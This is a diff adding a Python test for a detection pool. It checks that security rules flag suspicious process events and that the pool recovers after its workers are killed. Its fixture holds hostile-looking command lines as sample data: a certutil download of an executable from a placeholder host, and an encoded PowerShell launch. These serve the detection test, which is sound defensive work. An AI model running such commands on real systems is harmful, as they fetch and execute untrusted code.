@@ -0,0 +1,25 @@
+import os
+import signal
+
+from detect_pool import DetectionPool
+from rule_engine import DEFAULT_RULES, RuleSet
+
+EVENTS = [{"process_name": "certutil.exe", "command_line": "certutil -urlcache -f http://x/a.exe"},
+          {"process_name": "notepad.exe", "command_line": "notepad a.txt"},
+          {"process_name": "powershell.exe", "command_line": "powershell -enc AAAA"}]
+
+
+def test_broken_pool_falls_back_and_recovers():
+    rules = RuleSet.from_rows(DEFAULT_RULES)
+    pool = DetectionPool(1, chunk_size=1)
+    try:
+        expected = pool.match_batch(EVENTS, rules)
+        assert sorted(expected) == [0, 2]
+        for pid in list(pool._executor._processes):
+            os.kill(pid, signal.SIGKILL)
+        assert pool.match_batch(EVENTS, rules) == expected  # matched in-process
+        assert pool.stats["broken"] == 1
+        assert pool.match_batch(EVENTS, rules) == expected  # fresh pool
+        assert pool.stats["broken"] == 1
+    finally:
+        pool.shutdown()